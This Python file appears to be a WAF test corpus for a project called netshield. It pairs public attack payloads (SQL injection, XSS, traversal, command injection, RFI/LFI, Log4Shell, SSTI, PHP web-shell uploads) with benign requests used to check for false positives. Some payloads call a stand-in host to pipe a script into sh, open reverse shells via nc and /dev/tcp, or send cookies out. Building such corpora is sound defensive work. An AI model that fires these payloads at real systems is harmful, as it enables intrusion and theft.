# ruff: noqa: E501 -- corpus data: payloads and posts are kept on one line each
"""netshield's own WAF quality corpus: real attack payloads by family, sent the ways attackers
send them (query, form, JSON, headers, multipart, with the usual encodings), and realistic
benign traffic of the kinds that trip WAFs (JSON APIs, GraphQL, forms with apostrophes, search
queries, markdown and code snippets in posts). Written for netshield (Apache-2.0); the payloads
are the well-known public forms of each attack class.

`attacks()` and `benign()` return (family, raw HTTP/1.1 request) pairs, deterministic.
"""

from __future__ import annotations

import base64
import json
from urllib.parse import quote, quote_plus

UA = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"


def _request(
    method: str,
    target: str,
    body: bytes = b"",
    content_type: str | None = None,
    headers: tuple[tuple[str, str], ...] = (),
) -> bytes:
    fields = {
        "Host": "shop.example.com",
        "User-Agent": UA,
        "Accept": "text/html,application/xhtml+xml,application/json;q=0.9,*/*;q=0.8",
        "Accept-Language": "en-GB,en;q=0.5",
        "Accept-Encoding": "gzip, deflate",
    }
    fields.update(headers)
    lines = [f"{method} {target} HTTP/1.1"] + [f"{k}: {v}" for k, v in fields.items()]
    if content_type is not None:
        lines.append(f"Content-Type: {content_type}")
    if body or method in ("POST", "PUT", "PATCH"):
        lines.append(f"Content-Length: {len(body)}")
    return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1") + body


def _query(path: str, name: str, value: str) -> bytes:
    return _request("GET", f"{path}?{name}={quote(value, safe='')}")


def _form(path: str, fields: dict[str, str]) -> bytes:
    body = "&".join(f"{k}={quote_plus(v)}" for k, v in fields.items()).encode()
    return _request("POST", path, body, "application/x-www-form-urlencoded")


def _json(path: str, doc: object, method: str = "POST") -> bytes:
    return _request(method, path, json.dumps(doc).encode(), "application/json")


def _multipart(path: str, name: str, filename: str, content: bytes, ctype: str) -> bytes:
    boundary = "----netshieldcorpus7d9f"
    body = (
        (
            f'--{boundary}\r\nContent-Disposition: form-data; name="title"\r\n\r\nholiday\r\n'
            f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"; '
            f'filename="{filename}"\r\nContent-Type: {ctype}\r\n\r\n'
        ).encode()
        + content
        + f"\r\n--{boundary}--\r\n".encode()
    )
    return _request("POST", path, body, f"multipart/form-data; boundary={boundary}")


SQLI = [
    "1' OR '1'='1",
    "1 OR 1=1",
    "' OR 1=1-- -",
    "admin'--",
    "1' UNION SELECT username, password FROM users--",
    "1 UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables",
    "1; DROP TABLE users",
    "1' AND SLEEP(5)-- -",
    "1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)",
    "1'; WAITFOR DELAY '0:0:5'--",
    "1 AND 1=CONVERT(int,(SELECT @@version))",
    "1' AND extractvalue(1,concat(0x7e,(SELECT user())))-- -",
    "-1' UNION/**/SELECT/**/1,2,group_concat(password)/**/FROM/**/users-- -",
    "1' oR '1'='1",
    "1'/**/or/**/1=1#",
    "' || pg_sleep(5)--",
    "1) OR (1=1",
    "x' AND ascii(substring((SELECT password FROM users LIMIT 1),1,1))>64-- -",
    "1' ORDER BY 10-- -",
    "1; EXEC xp_cmdshell('dir')--",
    "' HAVING 1=1--",
    "1' AND benchmark(5000000,md5(1))#",
]
XSS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.cookie)>",
    "<svg/onload=alert(1)>",
    "\"><script>fetch('//evil.example/'+document.cookie)</script>",
    "javascript:alert(1)",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<body onload=alert(1)>",
    '<a href="javascript:void(0)" onmouseover="alert(1)">x</a>',
    "<ScRiPt>alert(String.fromCharCode(88,83,83))</ScRiPt>",
    "<details open ontoggle=alert(1)>",
    "'-alert(1)-'",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    "<input autofocus onfocus=alert(1)>",
]
TRAVERSAL = [
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "....//....//....//etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/var/www/../../etc/shadow",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fhosts",
    "..%c0%af..%c0%afetc/passwd",
    "../../../../proc/self/environ",
]
CMDI = [
    "127.0.0.1; cat /etc/passwd",
    "127.0.0.1 && id",
    "127.0.0.1 | nc -e /bin/sh 10.0.0.1 4444",
    "$(curl http://evil.example/x.sh | sh)",
    "`id`",
    "x; wget http://evil.example/shell -O /tmp/s; chmod +x /tmp/s",
    "a||whoami",
    ";/bin/bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
    "test;ls -la /",
    "1;sleep 5",
    "| powershell -enc SQBFAFgA",
    "; python3 -c 'import os;os.system(\"id\")'",
]
RFI_LFI = [
    "http://evil.example/shell.txt?",
    "https://203.0.113.7/payload.php",
    "php://filter/convert.base64-encode/resource=index.php",
    "php://input",
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
    "expect://id",
    "file:///etc/passwd",
    "zip://uploads/avatar.jpg#shell.php",
    "phar://uploads/x.phar/test",
    "/etc/passwd%00",
]
LOG4SHELL = [
    "${jndi:ldap://evil.example/a}",
    "${jndi:rmi://203.0.113.9:1099/x}",
    "${${lower:j}ndi:${lower:l}dap://evil.example/x}",
    "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/x}",
    "${jndi:dns://evil.example/x}",
    "${${env:NOTHING:-j}ndi:ldap://evil.example/}",
]
SSTI = [
    "{{7*7}}",
    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    "${7*7}",
    "<%= system('id') %>",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "#{7*7}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "{php}echo `id`;{/php}",
    '<#assign ex="freemarker.template.utility.Execute"?new()> ${ex("id")}',
]
SCANNERS = [
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Nikto/2.5.0",
    "Mozilla/5.00 (Nikto/2.1.6)",
    "masscan/1.3",
    "Nmap Scripting Engine",
    "WPScan v3.8.22",
    "nuclei - open-source project",
    "dirbuster",
    "Arachni/v1.5.1",
    "gobuster/3.6",
]


def attacks() -> list[tuple[str, bytes]]:
    out: list[tuple[str, bytes]] = []
    for p in SQLI:
        out.append(("sqli", _query("/products", "id", p)))
        out.append(("sqli", _form("/login", {"user": p, "password": "x"})))
        out.append(("sqli", _json("/api/orders/search", {"customer": p, "limit": 10})))
    for p in XSS:
        out.append(("xss", _query("/search", "q", p)))
        out.append(("xss", _form("/comments", {"name": "bob", "comment": p})))
        out.append(("xss", _json("/api/profile", {"bio": p}, "PUT")))
    for p in TRAVERSAL:
        out.append(("traversal", _request("GET", f"/download?file={p}")))
        out.append(("traversal", _form("/export", {"template": p.replace("%2f", "/")})))
    for p in CMDI:
        out.append(("cmdi", _query("/ping", "host", p)))
        out.append(("cmdi", _json("/api/diagnostics", {"target": p})))
    for p in RFI_LFI:
        out.append(("rfi_lfi", _query("/index.php", "page", p)))
        out.append(("rfi_lfi", _form("/render", {"include": p})))
    for p in LOG4SHELL:
        out.append(("log4shell", _request("GET", "/", headers=(("X-Api-Version", p),))))
        out.append(("log4shell", _request("GET", f"/search?q={quote(p, safe='')}")))
        out.append(("log4shell", _json("/api/login", {"username": p, "password": "x"})))
    for p in SSTI:
        out.append(("ssti", _query("/greet", "name", p)))
        out.append(("ssti", _form("/preview", {"template": p})))
    for ua in SCANNERS:
        out.append(("scanners", _request("GET", "/admin/", headers=(("User-Agent", ua),))))
    # Encodings and evasions of the attacks above.
    out += [
        ("encodings", _request("GET", "/products?id=1%u0027%20OR%20%u00271%u0027=%u00271")),
        ("encodings", _request("GET", "/products?id=1%2527%2520OR%25201%253D1--")),
        (
            "encodings",
            _request(
                "POST",
                "/api/search",
                b'{"q": "1\\u0027 UNION SELECT password FROM users--"}',
                "application/json",
            ),
        ),
        (
            "encodings",
            _request(
                "POST",
                "/api/c",
                b'{"c": "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"}',
                "application/json",
            ),
        ),
        (
            "encodings",
            _multipart(
                "/upload",
                "file",
                "x.txt",
                base64.b64encode(b"<?php system($_GET['c']); ?>"),
                "text/plain",
            ),
        ),
        (
            "encodings",
            _multipart(
                "/upload",
                "file",
                "shell.php",
                b"<?php system($_GET['cmd']); ?>",
                "application/x-php",
            ),
        ),
        ("encodings", _request("GET", "/search?q=%3CsCrIpT%3Ealert%281%29%3C%2FsCrIpT%3E")),
        (
            "encodings",
            _request("GET", "/download?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
        ),
        ("encodings", _request("GET", "/products?id=1/*!50000UNION*//*!50000SELECT*/1,2,3")),
        ("encodings", _request("GET", "/ping?host=127.0.0.1%0Acat%20/etc/passwd")),
    ]
    return out


NAMES = [
    "O'Brien",
    "D'Angelo",
    "O'Neill",
    "Zoë Ó Súilleabháin",
    "Anne-Marie",
    "Jean-Luc O'Hara",
    "Mary-Kate",
    "Renée D'Souza",
    "Björn Ångström",
    "Ng'ang'a",
    "Ta'Nisha",
    "Li Wei",
]
SEARCHES = [
    "best running shoes 2024",
    "how to fix a leaking tap",
    "rock'n'roll vinyl",
    "men's shoes size 10",
    "kids' toys under £20",
    "what is 2+2",
    "C++ book",
    "C# tutorial",
    "50% off sale",
    "tom & jerry dvd",
    "AT&T phone",
    "select comfort mattress",
    "drop-in replacement filter",
    "union square hotels",
    "where to buy paint",
    "sleep mask silk",
    "it's a wonderful life",
    "don't stop me now lyrics",
    "1/2 inch drill bit",
    "email@example.com",
    '"exact phrase" search',
    "temperature -5 degrees",
    "order #12345",
    "wi-fi extender",
    "café near me",
]
POSTS_MD = [
    "# Trip report\n\nWe went to **Kerry** and it was *great*. Don't miss the [ring](https://example.com/ring).\n\n- day 1: Killarney\n- day 2: Dingle\n",
    "Thanks! I'd say the answer is > 5, but it's hard to tell without the data.\n\n> quoting: it's fine\n",
    "## Update\n\n1. Fixed the bug where the page wouldn't load\n2. Added `dark mode`\n\nSee ![screenshot](/img/s.png)",
    "Can't wait for the weekend :) Who's coming to O'Connell St?",
    "Prices went up 10% - that's a lot. Select the plan that fits you; cheaper options exist.",
    "I tried both and the second one worked; the first one didn't (it kept timing out).",
]
CODE_POSTS = [
    "How do I join two tables?\n\n```sql\nSELECT o.id, c.name FROM orders o JOIN customers c ON c.id = o.customer_id WHERE o.total > 100;\n```",
    "My Python loop is slow:\n\n```python\nfor i in range(10):\n    print(i * 2)\n```\nAny ideas?",
    "In bash you can do `ls -la | grep conf` to find them.",
    "Use `const x = items.filter(i => i.price > 10);` instead of the for loop.",
    'Here\'s my Dockerfile:\n\n```\nFROM python:3.11-slim\nRUN pip install flask\nCMD ["python", "app.py"]\n```',
    "The regex `^[a-z0-9_-]{3,16}$` matches usernames.",
    "Try `git rebase -i HEAD~3` and squash.",
    'In Go: `if err != nil { return fmt.Errorf("open: %w", err) }`',
    "CSS: `.card { display: flex; gap: 1rem; }`",
    "My HTML has <b>bold</b> text and <i>italics</i> in it.",
]


def benign() -> list[tuple[str, bytes]]:
    out: list[tuple[str, bytes]] = []
    for i, q in enumerate(SEARCHES):
        out.append(("search", _request("GET", f"/search?q={quote_plus(q)}&page={i % 3 + 1}")))
        out.append(("search", _request("GET", f"/api/search?query={quote(q)}&sort=relevance")))
    for i, name in enumerate(NAMES):
        out.append(
            (
                "forms",
                _form(
                    "/signup",
                    {
                        "name": name,
                        "email": f"user{i}@example.com",
                        "city": "Cork",
                        "note": f"I'm {name}, it's my first order",
                    },
                ),
            )
        )
        out.append(
            (
                "forms",
                _form(
                    "/checkout",
                    {
                        "full_name": name,
                        "address": "12 St. Patrick's Rd",
                        "postcode": "T12 AB34",
                        "gift_message": "Happy birthday! Love, Mum & Dad",
                    },
                ),
            )
        )
        out.append(
            (
                "json_api",
                _json(
                    "/api/customers",
                    {
                        "name": name,
                        "tags": ["vip", "newsletter"],
                        "address": {"line1": "5 O'Connell St", "city": "Dublin"},
                    },
                ),
            )
        )
    for i in range(40):
        out.append(
            (
                "json_api",
                _json(
                    f"/api/orders/{1000 + i}",
                    {
                        "items": [{"sku": f"SKU-{i:04d}", "qty": i % 5 + 1, "price": 9.99 + i}],
                        "coupon": None,
                        "note": "leave at the door, it's fine",
                    },
                    "PUT",
                ),
            )
        )
        out.append(
            (
                "json_api",
                _request(
                    "GET",
                    f"/api/products?category=shoes&size={6 + i % 8}&sort=-price&fields=id,name,price",
                ),
            )
        )
    graphql_queries = [
        "query { viewer { login name repositories(first: 10) { nodes { name } } } }",
        "query Product($id: ID!) { product(id: $id) { id name price reviews(first: 5) { edges { node { rating text } } } } }",
        "mutation AddToCart($sku: String!, $qty: Int!) { addToCart(sku: $sku, quantity: $qty) { cart { id total } } }",
        "query { orders(filter: {status: SHIPPED}, orderBy: {field: CREATED_AT, direction: DESC}) { id total } }",
        '{ search(term: "men\'s shoes") { ... on Product { name } ... on Category { title } } }',
        "query Me { me { id email preferences { newsletter } } }",
    ]
    for i, q in enumerate(graphql_queries * 4):
        out.append(
            (
                "graphql",
                _json(
                    "/graphql",
                    {
                        "query": q,
                        "variables": {"id": str(i), "sku": f"A{i}", "qty": 1},
                        "operationName": None,
                    },
                ),
            )
        )
    for i, md in enumerate(POSTS_MD * 4):
        out.append(
            ("markdown_posts", _form(f"/forum/t/{i}/reply", {"body": md, "format": "markdown"}))
        )
        out.append(("markdown_posts", _json(f"/api/posts/{i}/comments", {"body": md})))
    for i, code in enumerate(CODE_POSTS * 3):
        out.append(
            ("code_posts", _form(f"/forum/t/{100 + i}/reply", {"body": code, "format": "markdown"}))
        )
        out.append(("code_posts", _json("/api/snippets", {"title": f"snippet {i}", "body": code})))
    pages = [
        "/",
        "/about",
        "/products/red-shoes-42",
        "/static/css/site.css",
        "/static/js/app.min.js",
        "/img/logo.svg",
        "/favicon.ico",
        "/blog/2024/05/it-s-summer",
        "/cart",
        "/account/orders?page=2",
    ]
    for i, page in enumerate(pages * 3):
        cookies = f"session=s{i:08x}; theme=dark; consent=yes"
        out.append(
            (
                "browsing",
                _request(
                    "GET",
                    page,
                    headers=(("Cookie", cookies), ("Referer", "https://shop.example.com/")),
                ),
            )
        )
    for i in range(10):
        out.append(
            (
                "uploads",
                _multipart(
                    "/account/avatar",
                    "avatar",
                    f"me-{i}.png",
                    b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4,
                    "image/png",
                ),
            )
        )
        out.append(
            (
                "uploads",
                _multipart(
                    "/docs/upload",
                    "doc",
                    f"notes {i}.txt",
                    b"Meeting notes: we'll ship on Friday; Bob's out.\n",
                    "text/plain",
                ),
            )
        )
    return out


__all__ = ["attacks", "benign"]
